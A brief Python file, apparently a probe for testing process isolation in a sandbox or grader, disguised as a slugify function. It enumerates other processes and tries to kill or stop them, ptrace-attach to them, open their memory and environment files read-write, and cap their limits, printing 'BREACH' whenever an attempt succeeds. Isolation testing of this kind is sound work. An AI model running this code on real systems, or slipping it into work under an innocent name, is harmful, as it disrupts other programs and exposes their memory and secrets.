import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, action):
    try:
        if action() not in (None, 0):
            return
    except OSError:
        return
    print("BREACH", name)


def slugify(text):
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, os.getpid())]
    for pid in others:
        for number in (9, 10, 15, 19):
            attempt(f"signal {number}", lambda: os.kill(pid, number))
        for request in (16, 0x4206):
            attempt(f"trace {request}", lambda: libc.ptrace(request, pid, None, None))
        for name in ("mem", "environ", "fd/3", "cwd"):
            attempt(name, lambda: os.close(os.open(f"/proc/{pid}/{name}", os.O_RDWR)))
        attempt("limits", lambda: resource.prlimit(pid, resource.RLIMIT_NPROC, (0, 0)) and None)
        attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
    if others:
        print("tried everything")
    return "wrong"
